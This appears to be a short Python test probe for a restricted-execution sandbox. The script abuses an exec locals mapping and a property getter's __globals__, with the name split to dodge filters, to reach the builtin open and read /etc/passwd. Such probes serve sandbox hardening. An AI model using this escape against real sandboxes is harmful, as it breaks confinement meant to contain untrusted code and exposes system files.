# tries: exec in locals that answer for a guard
# class: text
# stops: 1 2 3 4
import fractions


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(function):
    space = getattr(function, "__glo" + "bals__")
    print("REACHED")
    return space["__builtins__"]["open"]


def guard(receiver, name=None):
    print("REACHED")
    return receiver


class Space(dict):
    def __missing__(self, name):
        if name == "_read_":
            return guard
        raise KeyError(name)


space = Space(p=fractions.Fraction.numerator)
exec("found = p.fget", {}, space)
use(dig(space["found"]))
